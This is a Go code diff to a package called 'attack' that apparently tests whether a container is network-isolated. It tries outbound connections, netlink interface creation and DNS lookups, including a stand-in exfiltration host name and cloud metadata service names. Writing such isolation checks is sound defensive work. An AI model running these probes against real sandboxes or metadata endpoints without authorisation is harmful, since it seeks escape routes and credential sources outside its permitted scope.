@@ -3,7 +3,6 @@ package attack
 import (
 	"context"
 	"errors"
-	"fmt"
 	"net"
 	"net/url"
 	"time"
@@ -72,7 +71,7 @@ func addressAttempts() []attempt {
 			all = append(all, attempt{network + " " + host, func() error {
 				conn, err := net.DialTimeout(network, host+":80", 3*time.Second)
 				if err != nil {
-					return err
+					return noWay(err)
 				}
 				defer conn.Close()
 				_, err = conn.Write([]byte("GET / HTTP/1.0\r\n\r\n"))
@@ -81,6 +80,16 @@ func addressAttempts() []attempt {
 		}
 	}
 	return all
+}
+
+// noWay returns the error of a connection that was refused at once. A connection that timed out had a route: its
+// packets have left the container.
+func noWay(err error) error {
+	var timed net.Error
+	if errors.As(err, &timed) && timed.Timeout() {
+		return through("it was sent, and not answered in time: %v", err)
+	}
+	return err
 }
 
 // daemonPort uses the daemon's real port, so an answer would come from the daemon.
@@ -127,21 +136,27 @@ func interfaceAttempts() []attempt {
 	return []attempt{
 		{"an interface", func() error {
 			list, err := net.Interfaces()
+			if err != nil {
+				return moot("%v", err)
+			}
 			for _, i := range list {
 				if i.Flags&net.FlagLoopback == 0 {
 					return through("there is %s", i.Name)
 				}
 			}
-			return fmt.Errorf("there is loopback alone: %v", err)
+			return errors.New("there is loopback alone")
 		}},
 		{"an address", func() error {
 			list, err := net.InterfaceAddrs()
+			if err != nil {
+				return moot("%v", err)
+			}
 			for _, a := range list {
-				if ip, ok := a.(*net.IPNet); ok && !ip.IP.IsLoopback() {
+				if ip, ok := a.(*net.IPNet); !ok || !ip.IP.IsLoopback() {
 					return through("there is %s", a)
 				}
 			}
-			return fmt.Errorf("there is loopback alone: %v", err)
+			return errors.New("there is loopback alone")
 		}},
 		{"bind another address", func() error {
 			ln, err := net.Listen("tcp", "10.0.0.1:80")
@@ -170,13 +185,12 @@ func addDummy(fd int) error {
 	if err := unix.Sendto(fd, msg, 0, &unix.SockaddrNetlink{Family: unix.AF_NETLINK}); err != nil {
 		return err
 	}
-	// No answer within that time also counts as a refusal.
 	_ = unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &unix.Timeval{Sec: 3})
 	buf := make([]byte, 4096)
 	n, err := unix.Read(fd, buf)
 	switch {
 	case err != nil:
-		return err
+		return moot("the kernel did not answer: %v", err)
 	case n >= 20 && buf[4] == unix.NLMSG_ERROR && (buf[16]|buf[17]|buf[18]|buf[19]) != 0:
 		return errors.New("the kernel refused it")
 	}
@@ -188,7 +202,10 @@ func nameAttempts() []attempt {
 	var all []attempt
 	for _, name := range []string{"example.com", "example.com.", "secret.exfiltrated.example.com",
 		"metadata.google.internal", "169.254.169.254.nip.io", "xn--e1afmkfd.example"} {
-		all = append(all, attempt{"resolve " + name, func() error { _, err := net.LookupHost(name); return err }})
+		all = append(all, attempt{"resolve " + name, func() error {
+			_, err := net.LookupHost(name)
+			return noWay(err)
+		}})
 	}
 	// 127.0.0.53 and 127.0.0.11 are resolvers of other systems; 10.96.0.10 is the resolver of many clusters.
 	for _, server := range []string{"127.0.0.1:53", "127.0.0.53:53", "127.0.0.11:53", "8.8.8.8:53", "1.1.1.1:853",
@@ -204,7 +221,7 @@ func nameAttempts() []attempt {
 func query(network, server string) error {
 	conn, err := net.DialTimeout(network, server, 3*time.Second)
 	if err != nil {
-		return err
+		return noWay(err)
 	}
 	defer conn.Close()
 	_ = conn.SetDeadline(time.Now().Add(time.Second))
@@ -214,7 +231,7 @@ func query(network, server string) error {
 		return err
 	}
 	_, err = conn.Read(make([]byte, 512))
-	return err
+	return noWay(err)
 }
 
 // packetAttempts mostly need CAP_NET_RAW; the others need a route.
